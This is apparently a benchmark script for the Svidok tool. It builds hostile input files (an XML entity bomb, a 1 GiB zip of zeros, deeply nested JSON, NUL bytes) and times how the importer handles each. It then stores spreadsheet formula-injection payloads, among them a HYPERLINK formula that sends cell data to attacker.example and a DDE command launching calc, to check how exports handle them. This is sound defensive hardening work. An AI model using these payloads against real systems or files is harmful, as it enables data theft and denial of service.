"""The hostile files of issue 10 ("Bad input"), each run through the real command under
``/usr/bin/time -v``: what Svidok answers, how long it takes and its peak memory.

    .venv/bin/python bench/hostile_inputs.py [--keep DIR]

A fresh SQLite database in a temporary directory (migrated, with the vocabularies); nothing else
is touched. Prints a Markdown table (docs/inputs.md quotes it).
"""

import argparse
import os
import re
import subprocess
import sys
import tempfile
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from tests.hardening import hostile  # noqa: E402

SVIDOK = [sys.executable, "-m", "svidok.cli"] if not (ROOT / ".venv/bin/svidok").exists() else [str(ROOT / ".venv/bin/svidok")]


def timed(args: list[str], env: dict) -> dict:
    """Run ``svidok *args`` under /usr/bin/time -v: exit status, last line of output, seconds, CPU, peak RSS."""
    done = subprocess.run(["/usr/bin/time", "-v", *SVIDOK, *args], env=env, capture_output=True, text=True, errors="replace")
    stats = done.stderr
    said = done.stdout + "\n" + stats.split("\tCommand being timed")[0]
    out = [line for line in said.splitlines() if line.strip() and not line.startswith("Command exited with non-zero status")]
    # A refused row is reported on its own line before the summary: show both.
    rows = [line.strip() for line in out if line.strip().startswith("line ")]

    def field(label):
        return re.search(rf"\t{re.escape(label)}: (.+)", stats).group(1)

    wall = field("Elapsed (wall clock) time (h:mm:ss or m:ss)")
    minutes, seconds = wall.rsplit(":", 1)
    return {
        "status": int(field("Exit status")),
        "said": " / ".join([*rows[:1], out[-1].strip()]) if out else "",
        "wall": float(minutes.split(":")[-1]) * 60 + float(seconds),
        "cpu": float(field("User time (seconds)")) + float(field("System time (seconds)")),
        "rss_mb": int(field("Maximum resident set size (kbytes)")) / 1024,
    }


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--keep", help="write the files and the database here instead of a temporary directory")
    parser.add_argument("--skip", action="append", default=[], help="leave out the runs whose file is named so (repeatable)")
    options = parser.parse_args()
    base = Path(options.keep or tempfile.mkdtemp(prefix="svidok-hostile-"))
    (base / "var" / "static").mkdir(parents=True, exist_ok=True)
    env = {**os.environ, "SVIDOK_VAR_DIR": str(base / "var"), "PYTHONPATH": str(ROOT), "SVIDOK_PLAIN_STATIC": "1"}
    env.pop("DATABASE_URL", None)
    subprocess.run([*SVIDOK, "keys", "init", "--if-missing"], env=env, check=True, capture_output=True)
    subprocess.run([*SVIDOK, "migrate", "-v0"], env=env, check=True)
    subprocess.run([*SVIDOK, "load_vocabularies"], env=env, check=True, capture_output=True)

    files = {
        "million.xlsx": hostile.xlsx_declaring_rows(1_000_000),
        "far-row.xlsx": hostile.xlsx_far_row(1_000_000),
        "entity-bomb.xlsx": hostile.xlsx_entity_bomb(),
        "zeros.csv.zip": hostile.zip_of_zeros(1024**3),
        "deep.json": hostile.deep_json(100_000),
        "number.json": hostile.long_number_json(5000),
        "year-0197.csv": b"title,type,date_start\nTeacher dismissed,dismissal,0197-12-03\n",
        "nul-title.csv": b"title,type,date_start\nTeacher\x00 dismissed,dismissal,2018-03-20\n",
        "valid.csv": b"title,type,date_start\nTeacher dismissed,dismissal,2018-03-20\n",
    }
    for name, data in files.items():
        (base / name).write_bytes(data)
    runs = [
        ("baseline: a valid one-row CSV (Django start-up included in every row)", "valid.csv",
         ["import", "valid.csv", "--dry-run", "--no-progress"]),
        ("XLSX declaring 1,000,000 empty rows", "million.xlsx", ["import", "million.xlsx", "--dry-run", "--no-progress"]),
        ("XLSX without dimension, one cell on row 1,000,000", "far-row.xlsx", ["import", "far-row.xlsx", "--dry-run", "--no-progress"]),
        ("XLSX with an entity bomb (billion laughs)", "entity-bomb.xlsx", ["import", "entity-bomb.xlsx", "--dry-run", "--no-progress"]),
        ("ZIP holding 1 GiB of zeros", "zeros.csv.zip", ["forensics", "import", "zeros.csv.zip", "--election", "Bomb 2018",
                                                          "--create-election", "--date", "2018-03-18", "--no-progress"]),
        ("JSON nested 100,000 deep", "deep.json", ["import", "deep.json", "--dry-run", "--no-progress"]),
        ("JSON with a 5,000-digit number", "number.json", ["import", "number.json", "--dry-run", "--no-progress"]),
        ("CSV row dated 0197-12-03", "year-0197.csv", ["import", "year-0197.csv", "--dry-run", "--no-progress"]),
        ("CSV row with NUL in the title", "nul-title.csv", ["import", "nul-title.csv", "--dry-run", "--no-progress"]),
    ]
    print("| hostile file | size | exit | what Svidok says | wall s | CPU s | peak RSS MB |")
    print("|---|---:|---:|---|---:|---:|---:|")
    for label, name, args in runs:
        if name in options.skip:
            continue
        result = _in(base, args, env)
        size = (base / name).stat().st_size
        print(f"| {label} | {size:,} | {result['status']} | {result['said'][:160]} | {result['wall']:.2f} | {result['cpu']:.2f} | "
              f"{result['rss_mb']:.0f} |")

    # Exports of what an older version let in: stored directly, then exported.
    setup = ("from svidok.accounts.services import system_account as s; from svidok.incidents.models import Incident, Term; "
             "from svidok.incidents.services import record_incident as r; import datetime as d; "
             "t = Term.objects.get(vocabulary__code='incident_type', code='dismissal'); "
             "a = r(actor=s(), fields={'title': 'x', 'type': t, 'date_start': d.date(2018, 3, 20)}); "
             "b = r(actor=s(), fields={'title': 'y', 'type': t, 'date_start': d.date(2018, 3, 21)}); "
             "Incident.objects.filter(pk=a.pk).update(title='Teacher\\x00 dismissed'); "
             "Incident.objects.filter(pk=b.pk).update(title='=HYPERLINK(\"https://attacker.example/?\"&A1)', narrative='+cmd|\\' /C calc\\'!A0')")
    subprocess.run([*SVIDOK, "shell", "-c", setup], env=env, check=True, cwd=base)
    for fmt in ("xlsx", "csv"):
        result = _in(base, ["export", "--format", fmt, "--output", f"export.{fmt}"], env)
        size = (base / f"export.{fmt}").stat().st_size if (base / f"export.{fmt}").exists() else 0
        print(f"| {fmt.upper()} export of a stored NUL title and formula cells | {size:,} (written) | {result['status']} | "
              f"{_export_cells(base / f'export.{fmt}', fmt)} | {result['wall']:.2f} | {result['cpu']:.2f} | {result['rss_mb']:.0f} |")


def _in(base: Path, args: list[str], env: dict) -> dict:
    cwd = os.getcwd()
    os.chdir(base)
    try:
        return timed(args, env)
    finally:
        os.chdir(cwd)


def _export_cells(path: Path, fmt: str) -> str:
    if not path.exists() or path.stat().st_size == 0:
        return "empty file"
    if fmt == "csv":
        import csv

        rows = list(csv.DictReader(path.open(encoding="utf-8", newline="")))
        return "titles " + ", ".join(repr(r["title"])[:40] for r in rows) + "; narrative " + repr(rows[-1]["narrative"])[:30]
    from openpyxl import load_workbook

    sheet = load_workbook(path).active
    rows = list(sheet.iter_rows())
    column = [c.value for c in rows[0]].index("title")
    return "titles " + ", ".join(f"{r[column].value!r} ({r[column].data_type})"[:50] for r in rows[1:])


if __name__ == "__main__":
    main()
